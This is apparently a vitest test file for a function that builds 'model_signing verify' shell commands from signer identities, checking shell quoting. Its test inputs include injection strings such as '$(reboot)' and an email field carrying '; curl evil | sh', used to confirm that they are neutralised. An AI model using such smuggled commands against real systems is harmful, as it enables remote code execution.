import { describe, expect, it } from 'vitest';
import { modelSigningVerifyCommand, shellWord } from '../../src/provenance/verify-command.ts';
import type { SignerIdentity } from '../../src/provenance/types.ts';

const signer = (overrides: Partial<SignerIdentity>): SignerIdentity => ({
  source: 'certificate',
  names: [],
  oidcIssuer: null,
  certificateIssuer: null,
  publicKeyHint: null,
  ...overrides,
});

describe('shellWord', () => {
  it.each([
    ['signer@example.com', 'signer@example.com'],
    ['https://accounts.google.com', 'https://accounts.google.com'],
    ['a b', `'a b'`],
    ['$(reboot)', `'$(reboot)'`],
    [`it's`, `'it'\\''s'`],
    ['line\nbreak', 'PLACEHOLDER'],
    ['\u001b[2Jclear', 'PLACEHOLDER'],
    ['right\u202eto-left', 'PLACEHOLDER'],
    ['', 'PLACEHOLDER'],
  ])('%j → %s', (value, word) => {
    expect(shellWord(value, 'PLACEHOLDER')).toBe(word);
  });
});

describe('modelSigningVerifyCommand', () => {
  it.each<[string, SignerIdentity, string]>([
    [
      'Sigstore: the e-mail identity is preferred to other names',
      signer({ names: [{ kind: 'dns', value: 'x.example' }, { kind: 'email', value: 'me@example.com' }], oidcIssuer: 'https://accounts.google.com' }),
      'model_signing verify sigstore MODEL_PATH --signature model.sig --identity me@example.com --identity_provider https://accounts.google.com',
    ],
    [
      'Sigstore: a workflow URI identity',
      signer({ names: [{ kind: 'uri', value: 'https://github.com/o/r/.github/workflows/s.yml@refs/tags/v1' }], oidcIssuer: 'https://token.actions.githubusercontent.com' }),
      'model_signing verify sigstore MODEL_PATH --signature model.sig --identity https://github.com/o/r/.github/workflows/s.yml@refs/tags/v1 --identity_provider https://token.actions.githubusercontent.com',
    ],
    [
      'a certificate without a Fulcio issuer is verified against a chain',
      signer({ names: [{ kind: 'email', value: 'me@example.com' }] }),
      'model_signing verify certificate MODEL_PATH --signature model.sig --certificate_chain CERTIFICATE_CHAIN',
    ],
    ['a public key', signer({ source: 'public-key', publicKeyHint: 'h' }), 'model_signing verify key MODEL_PATH --signature model.sig --public_key PUBLIC_KEY'],
    ['no signer: placeholders', signer({ source: 'none' }), 'model_signing verify sigstore MODEL_PATH --signature model.sig --identity IDENTITY --identity_provider IDENTITY_PROVIDER'],
    [
      'hostile names are quoted or replaced',
      signer({ names: [{ kind: 'email', value: "a'; curl evil | sh; echo '" }], oidcIssuer: 'https://x\n; reboot' }),
      `model_signing verify sigstore MODEL_PATH --signature model.sig --identity 'a'\\''; curl evil | sh; echo '\\''' --identity_provider IDENTITY_PROVIDER`,
    ],
  ])('%s', (_, identity, command) => {
    expect(modelSigningVerifyCommand('model.sig', identity)).toBe(command);
  });
});
